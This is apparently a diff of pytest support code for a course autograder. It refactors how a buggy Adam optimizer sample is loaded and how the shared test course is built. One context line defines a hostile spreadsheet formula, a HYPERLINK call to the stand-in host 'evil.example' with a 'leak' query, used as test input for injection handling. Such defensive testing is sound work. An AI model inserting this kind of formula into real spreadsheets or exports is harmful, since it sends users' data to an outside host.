@@ -8,12 +8,12 @@ by hand, for the pure computation and the hostile files.
 
 from __future__ import annotations
 
-import fcntl
+import ast
 import json
-import os
 import shutil
 from pathlib import Path
 
+from support import built_once
 from support.feedback import BUNDLED_COURSE, REPO, autograde
 from support.grading import OPTIMIZERS_SOURCE, optimizers_with
 
@@ -22,20 +22,17 @@ HOSTILE_FORMULA = '=HYPERLINK("evil.example?leak","x")'  # no "/": it is also a 
 MISSING_FLOOR = ("the floor is missing: decay by floor(epoch_num / time_interval) so the rate "
                  "stays constant within an interval")
 
-ADAM_EPS_INSIDE = optimizers_with('''
-def update_parameters_with_adam(parameters, grads, v, s, t, learning_rate=0.01, beta1=0.9,
-                                beta2=0.999, epsilon=1e-8):
-    v_corrected, s_corrected = {}, {}
-    for key in v:
-        v[key] = beta1 * v[key] + (1 - beta1) * grads[key]
-        s[key] = beta2 * s[key] + (1 - beta2) * grads[key] ** 2
-        v_corrected[key] = v[key] / (1 - beta1**t)
-        s_corrected[key] = s[key] / (1 - beta2**t)
-        parameters[key[1:]] -= (
-            learning_rate * v_corrected[key] / np.sqrt(s_corrected[key] + epsilon)
-        )
-    return parameters, v, s, v_corrected, s_corrected
-''')
+
+def _sample_function(name: str) -> str:
+    """The source of ``name`` in the bundled sample with classic mistakes."""
+    text = (REPO / "autograder" / "samples" / "optimization_mistakes.py").read_text()
+    node = next(node for node in ast.parse(text).body
+                if isinstance(node, ast.FunctionDef) and node.name == name)
+    return ast.get_source_segment(text, node) + "\n"
+
+
+#: epsilon inside Adam's square root, as the bundled sample writes it
+ADAM_EPS_INSIDE = optimizers_with(_sample_function("update_parameters_with_adam"))
 NO_FLOOR = optimizers_with('''
 def schedule_lr_decay(learning_rate0, epoch_num, decay_rate, time_interval=1000):
     return learning_rate0 / (1 + decay_rate * (epoch_num / time_interval))
@@ -111,16 +108,7 @@ def _build(course: Path) -> None:
 
 def graded_course(tmp_path_factory) -> Path:
     """The course root (built once per session, shared by xdist workers); never modify it."""
-    worker = os.environ.get("PYTEST_XDIST_WORKER")
-    shared = tmp_path_factory.getbasetemp().parent if worker else tmp_path_factory.getbasetemp()
-    root = shared / "stats-course"
-    with open(shared / "stats-course.lock", "w") as lock:
-        fcntl.flock(lock, fcntl.LOCK_EX)
-        if not (root / "done").exists():
-            shutil.rmtree(root, ignore_errors=True)
-            _build(root / "course")
-            (root / "done").touch()
-    return root / "course"
+    return built_once(tmp_path_factory, "stats-course", lambda root: _build(root / "course")) / "course"
 
 
 def copy_course(course: Path, destination: Path) -> Path:
